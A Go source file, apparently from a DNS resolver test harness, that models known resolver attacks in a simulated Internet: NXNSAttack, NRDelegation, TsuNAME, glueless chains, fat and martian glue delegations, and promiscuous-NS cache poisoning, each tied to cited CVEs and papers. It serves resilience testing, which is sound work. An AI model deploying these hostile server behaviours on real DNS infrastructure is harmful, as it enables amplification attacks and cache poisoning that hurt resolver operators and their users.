package attack

import (
	"fmt"
	"net/netip"
	"strings"

	"github.com/sextant-dns/sextant/lookup"
)

// under is the name of the zone of that many labels, and the root's one more,
// that m asks about: where a server may claim a cut to be.
func under(m Message, labels int) string { return m.Question.Name.Suffix(labels).String() }

// NXNS is NXNSAttack: every question is answered by a referral to k name servers
// without glue, in the zone of a victim that has to deny them one by one.
//
// Afek, Bremler-Barr, Shafir: NXNSAttack, USENIX Security 2020; CVE-2020-8616,
// CVE-2020-12662.
func NXNS(k int) Attack {
	return nxns(fmt.Sprintf("nxns(%d)", k), k, func(Message) Act { return Deny("victim.net.") })
}

// NXNSDark is NXNS with a victim that has broken down under it and is silent.
func NXNSDark(k int) Attack {
	return nxns(fmt.Sprintf("nxns-dark(%d)", k), k, func(Message) Act { return Silence() })
}

func nxns(name string, k int, victim Server) Attack {
	return Attack{
		Name: name, Origin: "CVE-2020-8616",
		Lay: func(n *Internet) {
			n.Zone("victim.net.", victim)
			n.Zone("evil.com.", func(m Message) Act {
				cut := under(m, 3)
				return Refer(NS(cut, day, names(k, "ns%d."+m.Question.Name.Label()+".victim.net.")...))
			})
		},
		Ask: fresh("evil.com."),
	}
}

// NRDelegation is the non-responsive delegation attack: a referral to k name
// servers whose names resolve, to addresses where nobody is. What hurt was to look
// all of them up in the cache again and again.
//
// Afek, Bremler-Barr, Stajnrod: NRDelegationAttack, USENIX Security 2023;
// CVE-2022-2795, CVE-2022-3204.
func NRDelegation(k int) Attack {
	targets := names(k, "ns%d.idle.net.")
	return Attack{
		Name: fmt.Sprintf("nrdelegation(%d)", k), Origin: "CVE-2022-2795",
		Lay: func(n *Internet) {
			n.Zone("idle.net.", func(m Message) Act {
				var i int
				_, err := fmt.Sscanf(m.Question.Name.Label(), "ns%d", &i)
				if err != nil || m.Question.Type != lookup.TypeA {
					return Lack("idle.net.")
				}
				return Say(A(m.Question.Name.String(), day, addr4(i)))
			})
			n.Zone("evil.com.", func(m Message) Act { return Refer(NS(under(m, 3), day, targets...)) })
		},
		Ask: fresh("evil.com."),
	}
}

// TsuNAME is a circle of zones, of which each has its name server in the next.
// Clients that come back keep resolvers, and the parents, busy for ever.
//
// Moura, Castro, Heidemann, Hardaker: TsuNAME, IMC 2021.
func TsuNAME(length int) Attack {
	return Attack{
		Name: fmt.Sprintf("tsuname(%d)", length), Origin: "TsuNAME, IMC 2021",
		Lay: func(n *Internet) {
			for i := range length {
				n.Delegate(NS(fmt.Sprintf("c%d.com.", i), day, fmt.Sprintf("ns.c%d.com.", (i+1)%length)))
			}
		},
		Ask: fresh("c0.com."),
	}
}

// GluelessDeep is a zone whose name server lies in a zone whose name server lies
// in a zone, and so on: depth of them before one has glue.
//
// The nested glueless delegations of CVE-2014-8500 and CVE-2014-8602.
func GluelessDeep(depth int) Attack {
	zone := func(q, i int) string { return fmt.Sprintf("d%d-%d.com.", q, i) }
	return Attack{
		Name: fmt.Sprintf("glueless-deep(%d)", depth), Origin: "CVE-2014-8500",
		Lay: func(n *Internet) {
			for q := range 20 { // a chain of its own for each query
				for i := range depth {
					n.Delegate(NS(zone(q, i), day, "ns."+zone(q, i+1)))
				}
				n.Zone(zone(q, depth), func(m Message) Act { return Say(A(m.Question.Name.String(), day, addr4(1))) })
			}
		},
		Ask: func(i int) lookup.Question { return asA("www.%s", zone(i, 0)) },
	}
}

// FatDelegation is a delegation that is as large as delegations get: 13 names of
// more than 200 octets with six addresses each, for every name that is asked for.
//
// CacheFlush, USENIX Security 2024.
func FatDelegation() Attack {
	return Attack{
		Name: "fat-delegation", Origin: "CacheFlush, 2024",
		Lay: func(n *Internet) {
			dark := addrs4(6)
			n.Zone("evil.com.", func(m Message) Act {
				cut := under(m, 3)
				targets := names(13, "%060d."+strings.Repeat(strings.Repeat("n", 50)+".", 3)+cut)
				var glue []lookup.RRset
				for _, target := range targets {
					glue = append(glue, A(target, day, dark...))
				}
				return Refer(NS(cut, day, targets...), glue...)
			})
		},
		Ask:     fresh("evil.com."),
		Queries: 200,
	}
}

// SelfGlue is a delegation to 13 names that all have the same address, where
// nobody is, six times each: a resolver that counts names does not notice.
//
// CVE-2026-3592 (BIND), "selfpointed glue" (Unbound 1.25).
func SelfGlue() Attack {
	return glued("self-glue(13x6)", "CVE-2026-3592", func(n *Internet) []netip.Addr {
		dark := n.Serve(func(Message) Act { return Silence() })
		return []netip.Addr{dark, dark, dark, dark, dark, dark}
	})
}

// OverlappingGlue is a delegation to 13 names with six addresses each, where
// every name shares five of them with the next.
//
// CVE-2026-3592 (BIND).
func OverlappingGlue() Attack {
	a := SelfGlue()
	a.Name = "overlapping-glue(13x6)"
	a.Lay = func(n *Internet) {
		var hosts []netip.Addr
		for range 13 + 5 {
			hosts = append(hosts, n.Serve(func(Message) Act { return Silence() }))
		}
		targets := names(13, "ns%d.evil.com.")
		var glue []lookup.RRset
		for i, target := range targets {
			glue = append(glue, A(target, day, hosts[i:i+6]...))
		}
		n.Delegate(NS("evil.com.", day, targets...), glue...)
	}
	return a
}

// MartianGlue is a delegation to addresses that are nobody's or the resolver's
// own.
//
// CVE-2026-50251 (Unbound flushed its cache on 0.0.0.0); RFC 6890 2.2.
func MartianGlue() Attack {
	return glued("martian-glue", "CVE-2026-50251", func(*Internet) (martians []netip.Addr) {
		for _, a := range []string{"0.0.0.0", "127.0.0.1", "255.255.255.255", "224.0.0.1", "::", "::1"} {
			martians = append(martians, netip.MustParseAddr(a))
		}
		return martians
	})
}

// glued is a delegation to 13 names with the same addresses as glue.
func glued(name, origin string, glue func(*Internet) []netip.Addr) Attack {
	return Attack{
		Name: name, Origin: origin,
		Lay: func(n *Internet) {
			var four, six []netip.Addr
			for _, a := range glue(n) {
				if a.Is4() {
					four = append(four, a)
				} else {
					six = append(six, a)
				}
			}
			targets := names(13, "ns%d.evil.com.")
			var additional []lookup.RRset
			for _, target := range targets {
				additional = append(additional, A(target, day, four...))
				if len(six) > 0 {
					additional = append(additional, AAAA(target, day, six...))
				}
			}
			n.Delegate(NS("evil.com.", day, targets...), additional...)
		},
		Ask: fresh("evil.com."),
	}
}

// PromiscuousNS is a server whose replies, truthful as they are, say beside the
// truth that it serves the root, org. and benign.org., too, with glue.
//
// CVE-2025-11411 (Unbound), CVE-2025-40778 (BIND), CVE-2025-59023 (PowerDNS).
func PromiscuousNS() Attack {
	return Attack{
		Name: "promiscuous-ns", Origin: "CVE-2025-11411",
		Lay: func(n *Internet) {
			var trap netip.Addr
			trap = n.Zone("evil.com.", func(m Message) Act {
				truth := A(m.Question.Name.String(), day, addr4(1))
				lie := Say(truth, A(Benign, day, trap))
				for _, zone := range []string{".", "org.", "benign.org.", "com.", "evil.com."} {
					lie.Reply.Authority = append(lie.Reply.Authority, NS(zone, day, "ns.org."))
				}
				lie.Reply.Additional = []lookup.RRset{A("ns.org.", day, trap), A("ns.benign.org.", day, trap), A(Benign, day, trap)}
				return lie
			})
		},
		Ask: fresh("evil.com."),
	}
}

// PromiscuousReferral is the same in a referral, and the alias that goes with it:
// the glue is for a name server that does exist, elsewhere.
//
// CVE-2026-42960 (Unbound); Kaminsky, 2008.
func PromiscuousReferral() Attack {
	a := PromiscuousNS()
	a.Name, a.Origin = "promiscuous-referral", "CVE-2026-42960"
	a.Lay = func(n *Internet) {
		var trap netip.Addr
		trap = n.Zone("evil.com.", func(m Message) Act {
			if m.Question.Name.Labels() == 3 && m.Nth%2 == 1 {
				lie := Refer(NS(under(m, 3), day, "ns.org.", "ns.benign.org."), A("ns.org.", day, trap), A("ns.benign.org.", day, trap))
				lie.Reply.Authority = append(lie.Reply.Authority, NS("org.", day, "ns.org."))
				return lie
			}
			return Say(CNAME(m.Question.Name.String(), day, Benign), A(Benign, day, trap))
		})
	}
	return a
}
